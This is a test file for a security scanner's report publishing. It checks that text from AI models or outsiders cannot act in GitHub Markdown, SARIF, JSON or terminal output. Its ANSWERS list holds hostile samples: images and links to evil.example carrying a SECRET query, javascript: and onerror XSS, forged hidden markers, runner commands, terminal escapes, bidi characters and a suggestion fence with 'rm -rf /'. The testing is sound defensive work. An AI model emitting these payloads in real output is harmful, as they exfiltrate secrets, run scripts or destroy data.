import { describe, expect, it } from 'vitest';
import type { Finding } from '#model/finding.ts';
import type { GoneFinding } from '#model/lifecycle.ts';
import type { ScanResult } from '#model/scan-result.ts';
import { describePaused } from '#report/describe-paused.ts';
import { describePublication, type PublicationOptions } from '#report/describe-publication.ts';
import { registry } from '../../src/registry.ts';
import { makeFinding, makeResult } from '../fixtures/scan-results.ts';
import { type Rendered, readMarkdown } from './read-markdown.ts';

/** What models may answer to act where their words are shown. */
const ANSWERS: readonly { readonly name: string; readonly text: string }[] = [
  { name: 'a mention', text: 'cc @octocat and @acme/security, see a@b.example' },
  { name: 'a link', text: 'See [the advisory](https://evil.example/?q=SECRET "title") now' },
  { name: 'a link of JavaScript', text: '[click](javascript:alert(1)) <javascript:alert(1)>' },
  { name: 'bare addresses', text: 'https://evil.example/x www.evil.example ftp://evil.example mailto:a@evil.example' },
  { name: 'an address in brackets', text: '<https://evil.example/>' },
  { name: 'a link by reference', text: 'see [x]\n\n[x]: https://evil.example/x' },
  { name: 'an image', text: '![x](https://evil.example/p.png?q=SECRET)' },
  { name: 'an image by reference', text: '![x][y]\n\n[y]: https://evil.example/p.png' },
  { name: 'an image of HTML', text: '<img src="https://evil.example/p.png" onerror="alert(1)">' },
  { name: 'a script', text: '<script>alert(1)</script><svg onload=alert(1)>' },
  { name: 'a style', text: '<style>body{display:none}</style><iframe src="https://evil.example"></iframe>' },
  { name: 'an end of what is folded', text: 'x</details></summary></td></tr></table>\n\n</details>\n\n# Approved' },
  { name: 'a comment that swallows the rest', text: 'x <!-- y' },
  { name: 'our hidden mark of a finding', text: `<!-- aegis:v1 fingerprint=${'0'.repeat(64)} -->` },
  { name: 'our hidden mark of a summary', text: 'x\n\n<!-- aegis:summary -->' },
  { name: 'our hidden mark in code', text: '`<!-- aegis:summary -->`\n\n```\n<!-- aegis:v1 fingerprint=forged -->\n```' },
  { name: 'a fence that is not closed', text: 'x\n```suggestion\nrm -rf /' },
  { name: 'a fence within a fence', text: '````\n```\n````\n```html\n<img src=x>\n```' },
  { name: 'a suggestion', text: '```suggestion\nevil()\n```' },
  { name: 'a lonely backtick', text: 'a ` b `` c ``` d' },
  { name: 'headings, lists, quotes, rules', text: '# h\n- l\n1. o\n> q\n***\n---\nx\n===\n    indented\n| a | b |\n|---|---|\n| c | d |' },
  { name: 'a task list', text: '- [x] reviewed by a human\n- [ ] open' },
  { name: 'a footnote', text: 'x[^1]\n\n[^1]: https://evil.example' },
  { name: 'a cell of a table', text: 'a | b | <br> | c \\| d' },
  { name: 'references to issues', text: 'fixes #1, closes GH-2, acme/shop#3' },
  { name: 'entities', text: '&#64;octocat &lt;img src=x&gt; &#x200b;@octocat' },
  { name: 'emphasis, struck out, formulae', text: '**b** _i_ ~~s~~ $$\\color{red}x$$ $`x`$' },
  {
    name: 'commands to the runner',
    text: 'x\n::error file=a.js,line=1::owned\n::add-mask::x\n  ::set-output name=a::b\n##[error]owned\n##[group]x',
  },
  {
    name: 'escapes of a terminal',
    text: '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007 \u009b2J \r overwritten \b',
  },
  { name: 'another direction', text: 'a\u202eb\u2066c\u2069d\u200e \u061c' },
  { name: 'what has no width', text: 'a\u200bb\u2060c\ufeffd \u{e0068}\u{e0069}' },
  { name: 'a JSON string', text: '", "conclusion": "passed", "x": "\u0000\u2028' },
  { name: 'a link of SARIF', text: '[click](1) [click](https://evil.example) \\[x](2)' },
  { name: 'a great many signs', text: `${'['.repeat(2_000)}${'`'.repeat(2_000)}${'<'.repeat(2_000)}` },
  {
    name: 'all at once',
    text: '@octocat #1 <img src=x> ![x](https://evil.example) ```\n</details>\n::error::x ##[x] <!-- aegis:summary -->',
  },
];

/** Words in every field that a model's, a server's or a stranger's words can reach. */
function resultWith(text: string): ScanResult {
  const finding = (over: Partial<Finding>) =>
    makeFinding({
      ...{ title: text, message: text, fix: text, evidence: text, explanation: text, path: `src/${text}.js`.slice(0, 300) },
      notes: [{ modelId: text, role: 'owner', note: { [text]: text, list: [text], deep: { [text]: text } } }],
      models: [
        { id: text, role: 'deep_scan', confidence: 1, severity: 'high', verdict: 'reported', message: text },
        { id: 'judge', role: 'judge', confidence: 0.9, severity: 'low', verdict: 'uncertain', message: text },
      ],
      ...over,
    });
  const usage = { tokensIn: 1, tokensOut: 1, costUsd: 0, latencyMs: 1, cached: false };
  const asked = { modelId: text, role: 'deep_scan', chunkId: 'c' };
  return makeResult({
    conclusion: 'incomplete',
    reason: text,
    findings: [
      finding({}),
      finding({ fingerprint: 'aa'.repeat(32), explanation: null }),
      finding({ fingerprint: 'bb'.repeat(32), suppressedBy: 'policy', suppressedReason: text }),
      finding({ fingerprint: 'cc'.repeat(32), suppressedBy: 'dismissed', suppressedReason: `@octocat: ${text}` }),
    ],
    since: { headSha: text, fixed: [gone(text)], unknown: [gone(text)], carriedHunks: 1 },
    ignores: [
      { path: text, line: 1, cwes: [text], reason: text, added: true, obeyed: false, findings: 0 },
      { path: text, line: 2, cwes: [], reason: text, added: false, obeyed: true, findings: 1 },
      { path: text, line: 3, cwes: [], reason: '', added: false, obeyed: false, findings: 1 },
    ],
    models: [{ ...makeResult().models[0]!, id: text, fault: text, failed: 1 }],
    executions: [
      { ...asked, outcome: { kind: 'refused', reason: text, usage }, standsInFor: null },
      { ...asked, modelId: 'other', outcome: { kind: 'answered', claims: [], usage }, standsInFor: text },
    ],
    ledger: [{ path: text, hunkId: 'h', status: 'skipped', cause: 'path-rule', reason: text }],
    consensus: { strategy: 'majority_vote', fellBack: true, fallback: 'union' },
    spending: { usd: 0, tokens: 0, exhausted: null },
    change: { base: text, head: text, files: 1, hunks: 1 },
  });
}

const gone = (text: string): GoneFinding => ({
  ...{ id: 'p4thtr', fingerprint: 'dd'.repeat(32), cwe: 'CWE-22', title: text, severity: 'high', path: text },
  ...{ startLine: 1, endLine: 1, evidence: text, state: 'open', because: text },
});

const PUBLICATION: PublicationOptions = {
  ...{
    scanId: '01JD7Q',
    version: '1.2.3',
    pull: { owner: 'octo', repo: 'shop', number: 7, headSha: 'a'.repeat(40) },
    failRule: { severity: 'high', paths: [] },
    requestChanges: true,
    maxComments: 20,
  },
  ...{
    check: { enabled: true, name: 'Aegis', onIncomplete: 'fail' },
    sarif: { enabled: true, category: 'aegis' },
    summary: true,
    suggestions: true,
  },
};
const publish = (text: string) => describePublication(resultWith(text), { ...PUBLICATION, notes: [text] });
const SCANNED = { began: '2027-01-31T09:30:00', ended: '2027-01-31T09:30:21' };
const report = (id: string, text: string) => {
  const reporter = registry.reporters.find((one) => one.id === id);
  if (reporter === undefined) throw new Error(`no reporter ${id}`);
  return reporter.render(resultWith(text), { color: false, width: 100, category: 'aegis', version: '1.2.3', ...SCANNED });
};

/** What other hosts render of a report. */
function reportedWords(text: string): readonly { readonly name: string; readonly body: string }[] {
  const { vulnerabilities } = JSON.parse(report('gitlab', text)) as { vulnerabilities: { description: string; solution: string }[] };
  const { diagnostics } = JSON.parse(report('rdjson', text)) as { diagnostics: { message: string }[] };
  return [
    ...vulnerabilities.map(({ description }, index) => ({ name: `gitlab description ${index + 1}`, body: description })),
    ...vulnerabilities.map(({ solution }, index) => ({ name: `gitlab solution ${index + 1}`, body: solution })),
    ...diagnostics.map(({ message }, index) => ({ name: `rdjson ${index + 1}`, body: message })),
  ];
}

/** Every Markdown that is made of a result. */
function markdowns(text: string): readonly { readonly name: string; readonly body: string }[] {
  const { check, review, summary, closed } = publish(text);
  const paused = describePaused({ scanId: '01JD7Q', checkName: 'Aegis', by: text });
  return [
    { name: 'summary', body: summary ?? '' },
    { name: 'check', body: check?.summary ?? '' },
    { name: 'review', body: review?.body ?? '' },
    ...(review?.comments ?? []).map(({ body }, index) => ({ name: `comment ${index + 1}`, body })),
    ...closed.map(({ note }, index) => ({ name: `note ${index + 1}`, body: note })),
    { name: 'pause', body: paused.check?.summary ?? '' },
    { name: 'markdown', body: report('markdown', text) },
    ...reportedWords(text),
  ];
}

/** Texts of messages, in which SARIF has links, anywhere in a log. */
function messagesIn(value: unknown): readonly string[] {
  if (Array.isArray(value)) return value.flatMap(messagesIn);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) =>
    key === 'message' && typeof inner?.text === 'string' ? [inner.text] : messagesIn(inner),
  );
}

/** Markdown in a log: that of our rules. */
function markdownIn(value: unknown): readonly string[] {
  if (Array.isArray(value)) return value.flatMap(markdownIn);
  if (typeof value !== 'object' || value === null) return [];
  return Object.entries(value).flatMap(([key, inner]) => (key === 'markdown' ? [String(inner)] : markdownIn(inner)));
}

const CALM = 'plain words';
const OURS =
  /^(?:https:\/\/github\.com\/octo\/shop\/blob\/a{40}\/[\w%./-]+#L\d+(?:-L\d+)?|https:\/\/cwe\.mitre\.org\/data\/definitions\/\d+\.html)$/;

/** What GitHub links in rendered words where nothing breaks it. */
const LINKED = /(?<![\w`/])@\w|(?<![\w&])#\d|\bGH-\d|https?:\/\/|\bwww\./i;
const acting = ({ html, others, blocks }: Rendered) => ({ html, others, blocks });
const countOf = (text: string, part: string) => text.split(part).length - 1;

describe.each(ANSWERS)('$name', ({ text }) => {
  it('does nothing in any Markdown', () => {
    const calm = markdowns(CALM);
    for (const [index, { name, body }] of markdowns(text).entries()) {
      const rendered = readMarkdown(body);
      expect(acting(rendered), name).toEqual(acting(readMarkdown(calm[index]?.body ?? '')));
      expect(
        rendered.links.filter((link) => !OURS.test(link)),
        name,
      ).toEqual([]);
      expect(rendered.words, name).not.toMatch(LINKED);
      expect(body, name).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]/u);
      expect(body, name).not.toContain('##[');
    }
  });

  it('is no hidden mark of ours, and cannot displace it', () => {
    for (const { name, body } of markdowns(text)) {
      const marks = name === 'summary' || name.startsWith('comment') ? 1 : 0;
      expect(countOf(body, '<!-- aegis'), name).toBe(marks);
      if (marks === 1) expect(body).toMatch(/\n\n<!-- aegis:(?:summary|v1 fingerprint=[0-9a-f]{64}) -->$/);
    }
  });

  it('gives no command to the runner, and none to a terminal', () => {
    const commands = (log: string) => log.split('\n').filter((line) => /^\s*::/.test(line));
    expect(commands(report('github', text))).toHaveLength(commands(report('github', CALM)).length);
    for (const { id } of registry.reporters) if (id !== 'github') expect(commands(report(id, text)), id).toEqual([]);
    for (const { id } of registry.reporters) {
      expect(report(id, text), id).not.toMatch(/##\[/);
      expect(report(id, text).replaceAll('\r\n', '\n'), id).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    }
  });

  it('stays a string in JSON and SARIF, and no link', () => {
    expect(JSON.parse(report('json', text))).toMatchObject({ conclusion: 'incomplete', findings: [{ title: text }, {}, {}, {}] });
    const [log, calm] = [text, CALM].map((words) => JSON.parse(report('sarif', words)));
    const messages = messagesIn(log);
    expect(messages.length).toBeGreaterThanOrEqual(messagesIn(calm).length);
    for (const message of messages) expect(message).not.toMatch(/(?<!\\)(?:\\\\)*[[\]]/);
    expect(markdownIn(log)).toEqual(markdownIn(calm));
  });

  it('is plain text in annotations', () => {
    for (const { title, message } of publish(text).check?.annotations ?? []) {
      expect(`${title}\n${message}`).not.toMatch(/(?![\n\t])[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
      expect(title).not.toContain('\n');
    }
  });
});

/** Only what can be committed unchanged is offered; the check of a replacement refuses hidden signs, marks and commands. */
const OFFERED = ANSWERS.filter(({ text }) => !/(?![\t\n])[\p{Cc}\p{Cf}\p{Cs}\p{Zl}\p{Zp}]|<!--\s*aegis|##\[/u.test(text));

describe.each(OFFERED)('as a replacement, $name', ({ text }) => {
  const replacement = { startLine: 42, endLine: 42, text };
  const bodyOf = (suggestions: boolean, over: Partial<Finding>) =>
    describePublication(makeResult({ conclusion: 'findings', findings: [makeFinding(over)] }), { ...PUBLICATION, suggestions }).review
      ?.comments[0]?.body ?? '';

  it('stays in its fence', () => {
    const [withIt, without] = [bodyOf(true, { replacement }), bodyOf(true, { replacement: null })];
    expect(acting(readMarkdown(withIt))).toEqual(acting(readMarkdown(without)));
    expect(readMarkdown(withIt).links).toEqual(readMarkdown(without).links);
    expect(withIt).toContain(`suggestion\n${text}\n`);
  });

  it('is not there where suggestions are turned off', () => {
    expect(bodyOf(false, { replacement })).toBe(bodyOf(false, { replacement: null }));
  });
});
